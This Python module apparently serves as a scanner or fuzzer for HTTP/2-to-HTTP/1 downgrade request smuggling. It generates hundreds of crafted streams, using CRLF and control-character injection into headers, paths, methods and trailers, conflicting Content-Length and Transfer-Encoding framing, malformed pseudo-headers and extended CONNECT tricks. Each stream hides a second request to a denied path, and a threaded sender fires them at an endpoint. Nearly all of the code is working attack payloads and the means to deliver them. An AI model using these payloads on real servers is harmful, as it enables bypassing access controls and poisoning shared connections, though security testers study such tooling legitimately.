"""Streams of HTTP/2 that turn into other requests where they are written as HTTP/1: one request each, and one behind it."""

import concurrent.futures
import dataclasses
import ssl

from h2_wire import Wire, block, data, headers
from smuggling.stream import DENIED, ID

INNER = DENIED.decode("latin-1")
TAIL = "\r\n\r\n" + INNER
PSEUDO = {":method": "POST", ":scheme": "http", ":path": "/a/@@@@", ":authority": "orders.shop"}


@dataclasses.dataclass(frozen=True)
class Downgrade:
    """`fields` as they are encoded; a `body` of None ends the stream with the head; `trailers` come behind the body."""

    family: str
    name: str
    fields: tuple
    body: object = None
    trailers: tuple = ()

    def frames(self, number):
        fields = [tuple(part.encode("latin-1").replace(ID, b"%04d" % number) for part in pair) for pair in self.fields]
        out = headers(1, block(*fields), end=self.body is None and not self.trailers)
        if self.body is not None:
            out += data(1, self.body.encode("latin-1").replace(ID, b"%04d" % number), end=not self.trailers)
        if self.trailers:
            out += headers(1, block(*self.trailers))
        return out + headers(3, block(*{**PSEUDO, ":method": "GET", ":path": f"/after/{number:04d}"}.items()))

    def __str__(self):
        return f"{self.family}: {self.name}"


def post(*extra, body="hello", trailers=(), **changes):
    return (*{**PSEUDO, **changes}.items(), *extra), body, trailers


def downgrade(family, name, made):
    return Downgrade(family, name, *made)


# A line end and what may follow it, in every place that becomes a line of HTTP/1.
BREAKS = {
    "CRLF and a field": "\r\nX-Injected: a", "CRLF and chunked": "\r\nTransfer-Encoding: chunked",
    "CRLF and a length": "\r\nContent-Length: 0", "CRLF and a request": TAIL,
    "LF and chunked": "\nTransfer-Encoding: chunked", "CR and chunked": "\rTransfer-Encoding: chunked", "NUL": "\0",
    "a blank line": "\r\n\r\n", "LF LF and a request": "\n\n" + INNER, "CRLF and a fold": "\r\n folded",
    "only CR": "\r", "unit separators": "\x1f", "vertical tab": "\x0b", "NEL": "\x85", "host": "\r\nHost: other.shop"
}
PLACES = {
    "a value": lambda text: post(("x-value", "a" + text)),
    "a value's beginning": lambda text: post(("x-value", text.lstrip(" ") + "a")),
    "a name": lambda text: post(("x-name" + text + ": b", "a")),
    "a short name": lambda text: post((text + "x", "a")),
    "the path": lambda text: post(**{":path": "/a/@@@@" + text}),
    "the path before its version": lambda text: post(**{":path": "/a/@@@@ HTTP/1.1" + text + "\r\nx:"}),
    "the authority": lambda text: post(**{":authority": "orders.shop" + text}),
    "the method": lambda text: post(**{":method": "POST" + text}),
    "a method with a request": lambda text: post(**{":method": "GET /denied/@@@@ HTTP/1.1" + text}),
    "the scheme": lambda text: post(**{":scheme": "http" + text}),
    "a cookie": lambda text: post(("cookie", "a=b" + text)),
    "a user agent": lambda text: post(("user-agent", "a" + text)),
    "a trailer": lambda text: post(trailers=(("x-sum", "7" + text), )),
    "a trailer's name": lambda text: post(trailers=(("x-sum" + text, "7"), )),
}
CHUNKS = "0\r\n\r\n" + INNER
ONE_CHUNK = f"{len(INNER):x}\r\n{INNER}\r\n0\r\n\r\n"


def _framing():
    for name, value in (("chunked", "chunked"), ("CHUNKED", "CHUNKED"), ("gzip, chunked", "gzip, chunked"),
                        ("identity", "identity"), ("nothing", ""), ("chunked and a tab", "chunked\t")):
        for where, body in (("a last chunk and a request", CHUNKS), ("a chunk", ONE_CHUNK), ("a body", "hello")):
            yield downgrade("transfer-encoding", f"{name} before {where}", post(("transfer-encoding", value),
                                                                                body=body))
            yield downgrade("transfer-encoding", f"{name} and a length before {where}",
                            post(("transfer-encoding", value), ("content-length", str(len(body))), body=body))
    for spelt in ("Transfer-Encoding", "transfer-encoding ", " transfer-encoding", "transfer_encoding",
                  "transfer-encoding:", "transfer-encoding\t", "transfer\r-encoding", "transfer-encod\0ing",
                  "content_length", "content-length ", "Content-Length", "content-length:"):
        yield downgrade("framing names", repr(spelt),
                        post((spelt, "chunked" if "ransfer" in spelt else "0"), body=CHUNKS))
    for value in ("0", "1", "4", "6", "500", "-1", "+5", "05", "5 ", " 5", "5,5", "5, 6", "0x5", "5.0", "", "a", "5\0",
                  "99999999999999999999", "５".encode().decode("latin-1")):
        yield downgrade("content-length", f"{value!r} for 5", post(("content-length", value)))
        yield downgrade("content-length", f"{value!r} before a request", post(("content-length", value), body=INNER))
    yield downgrade("content-length", "two that differ", post(("content-length", "5"), ("content-length", "0")))
    yield downgrade("content-length", "two that agree", post(("content-length", "5"), ("content-length", "5")))
    yield downgrade("content-length", "with a head alone", post(("content-length", "48"), body=None))
    for method in ("GET", "HEAD", "DELETE", "OPTIONS", "TRACE"):
        yield downgrade("a body with a method", method, post(body=INNER, **{":method": method}))
        yield downgrade("a body with a method", f"{method} and a length",
                        post(("content-length", str(len(INNER))), body=INNER, **{":method": method}))


def _pseudo():
    for name, value in ((":path", "/denied/@@@@"), (":authority", "other.shop"), (":method", "GET"),
                        (":scheme", "https"), (":status", "200"), (":protocol", "websocket"), (":", "a"), (":x", "a"),
                        (":Path", "/denied/@@@@")):
        yield downgrade("pseudo-headers", f"another {name}", post((name, value)))
        yield downgrade("pseudo-headers", f"{name} in trailers", post(trailers=((name, value), )))
    for path in ("", "a", "*", "//denied/@@@@", "/a/../denied/@@@@", "http://orders.shop/denied/@@@@", "/denied/@@@@#x",
                 "/a/@@@@ HTTP/1.0", "/a b/@@@@", "/a\t/@@@@", "/%64enied/@@@@", "/a/@@@@?\x80", "/a/@@@@#/denied",
                 "\\denied\\@@@@", "/./denied/@@@@", "?", "/a\x7f"):
        yield downgrade("path", repr(path), post(**{":path": path}))
    for method in ("", "get", "GET ", " GET", "G T", "CONNECT", "PRI", "GET\t", "POST:", "\"GET\"", "G\x80T", "TRACE",
                   "M-SEARCH"):
        yield downgrade("method", repr(method), post(**{":method": method}))
    for authority in ("", "other.shop", "a@orders.shop", "orders.shop/denied", "orders.shop#",
                      "orders.shop, other.shop", "orders shop", "orders.shop:x", "[::1", "orders.shop:80:80",
                      "ORDERS.SHOP", "orders.shop."):
        yield downgrade("authority", repr(authority), post(**{":authority": authority}))
        yield downgrade("host beside the authority", repr(authority), post(("host", authority)))
    without = {name: value for name, value in PSEUDO.items() if name != ":authority"}
    yield downgrade("authority", "two hosts without one",
                    ((*without.items(), ("host", "orders.shop"), ("host", "other.shop")), "hello", ()))
    yield downgrade("authority", "none at all", (tuple(without.items()), "hello", ()))
    yield downgrade("pseudo-headers", "none but a method", (((":method", "GET"), ), None, ()))
    yield downgrade("pseudo-headers", "behind a field", ((("x", "y"), *PSEUDO.items()), "hello", ()))


def _hops():
    for name, value in (("connection", "close"), ("connection", "content-length"), ("connection", "host, x-request-id"),
                        ("keep-alive", "timeout=1"), ("proxy-connection", "keep-alive"), ("upgrade", "h2c"),
                        ("upgrade", "websocket"), ("te", "chunked"), ("te", "trailers"), ("te", "trailers, chunked"),
                        ("http2-settings", "AAMAAABkAARAAAAAAAIAAAAA"), ("expect", "100-continue"), ("expect", "x"),
                        ("trailer", "content-length"), ("x_under", "a"), ("x-request-id", "mine"),
                        ("content-encoding", "chunked"), ("x-forwarded-for", "10.0.0.1"), ("cookie", "a=b"), ("x-empty",
                                                                                                              "")):
        yield downgrade("fields of a hop", f"{name}: {value}", post((name, value), body=CHUNKS))
        yield downgrade("fields of a hop in trailers", f"{name}: {value}", post(trailers=((name, value), )))
    for name, value in (("content-length", "0"), ("transfer-encoding", "chunked"), ("host", "other.shop"),
                        ("authorization", "a")):
        yield downgrade("framing in trailers", f"{name}: {value}", post(trailers=((name, value), )))
    yield downgrade("cookies", "crumbs", post(("cookie", "a=b"), ("cookie", "c=d"), ("cookie", "e=f")))
    yield downgrade("chunks in DATA", "a whole chunked body", post(body=ONE_CHUNK))
    yield downgrade("chunks in DATA", "a last chunk and a request", post(body=CHUNKS))


def _connects():
    """Extended CONNECT (RFC 8441): an upgrade where it is written as HTTP/1.1, and DATA that is no body."""
    def connect(*extra, body=INNER, protocol="websocket", **changes):
        return post(("sec-websocket-version", "13"), *extra, body=body,
                    **{":method": "CONNECT", ":protocol": protocol, **changes})

    for name, body in (("a request", INNER), ("chunks", CHUNKS), ("a chunk", ONE_CHUNK), ("a blank line", TAIL),
                       ("nothing", None), ("a frame", "\x81\x85\0\0\0\0hello"), ("a preface", "PRI * HTTP/2.0" + TAIL)):
        for protocol in ("websocket", "WebSocket", "tcp"):
            yield downgrade("extended CONNECT", f"{protocol} before {name}", connect(body=body, protocol=protocol))
    for name, text in BREAKS.items():
        yield downgrade("extended CONNECT", f"{name} in its protocol", connect(protocol="websocket" + text))
        yield downgrade("extended CONNECT", f"{name} in its path", connect(**{":path": "/a/@@@@" + text}))
        yield downgrade("extended CONNECT", f"{name} in a subprotocol", connect(("sec-websocket-protocol", "a" + text)))
        yield downgrade("extended CONNECT", f"{name} in an extension", connect(("sec-websocket-extensions", "a" + text)))
        yield downgrade("extended CONNECT", f"{name} in a key", connect(("sec-websocket-key", "a" + text)))
    for field in (("content-length", "5"), ("content-length", "0"), ("transfer-encoding", "chunked"),
                  ("upgrade", "h2c"), ("upgrade", "websocket"), ("connection", "upgrade"), ("host", "other.shop"),
                  ("expect", "100-continue"), ("http2-settings", "AAMAAABk"), ("te", "trailers")):
        yield downgrade("extended CONNECT", f"{field[0]}: {field[1]}", connect(field))


def downgrades():
    """Every one, each with its number as its place."""
    made = [
        downgrade(f"{name} in {where}", name, build(text)) for where, build in PLACES.items()
        for name, text in BREAKS.items()
    ]
    return [*made, *_framing(), *_pseudo(), *_hops(), *_connects()]


def send_one(endpoint, source, tls, number, one):
    """What came back: {stream: status or None}"""
    try:
        with Wire(endpoint, source=source, tls=tls) as wire:
            wire.start().send(one.frames(number))
            wire.read_until(lambda: wire.closed or wire.done(1) and wire.done(3), 3)
            return {1: wire.status(1), 3: wire.status(3)}
    except (OSError, ssl.SSLError):
        return {}


def send_downgrades(endpoint, streams, source=None, tls=None):
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        sent = {number: pool.submit(send_one, endpoint, source, tls, number, one) for number, one in streams.items()}
        return {number: future.result() for number, future in sent.items()}
